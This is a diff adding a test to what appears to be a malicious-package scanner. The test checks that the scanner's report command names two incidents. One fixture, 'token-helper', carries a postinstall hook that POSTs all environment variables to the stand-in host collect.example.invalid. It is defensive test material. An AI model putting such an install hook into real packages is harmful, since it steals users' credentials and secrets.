@@ -75,3 +75,23 @@ def test_cli_report_of_benign_scans_is_nothing_to_report(tmp_path: Path) -> None
             json.loads(text)
         else:
             assert "Nothing to report" in text
+
+
+def test_cli_report_of_two_incidents_names_them_with_their_packages(tmp_path: Path) -> None:
+    examples = Path(__file__).resolve().parents[2] / "examples"
+    clipper = run(tmp_path, "scan", str(examples / "left-padder-1.0.1"), "--against",
+                  str(examples / "left-padder-1.0.0"), "--offline", "--no-remember", "-f", "json")
+    stealer_pkg = write_package(tmp_path / "st", {
+        "package.json": json.dumps({"name": "token-helper", "version": "1.0.0",
+                                    "scripts": {"postinstall": "node i.js"}}),
+        "i.js": "require('https').request({host: 'collect.example.invalid', method: 'POST'})"
+                ".end(JSON.stringify(process.env));\n"})
+    stealer = run(tmp_path, "scan", str(stealer_pkg), "--against", "none", "--offline",
+                  "--no-remember", "-f", "json")
+    (tmp_path / "a.json").write_text(clipper.stdout)
+    (tmp_path / "b.json").write_text(stealer.stdout)
+    done = run(tmp_path, "report", str(tmp_path / "a.json"), str(tmp_path / "b.json"),
+               "--db", f"sqlite:///{tmp_path / 'cw.db'}")
+    assert done.returncode == 2
+    assert "the scan files hold 2 incidents: name one with --incident" in done.stderr
+    assert "left-padder@1.0.1" in done.stderr and "token-helper@1.0.0" in done.stderr
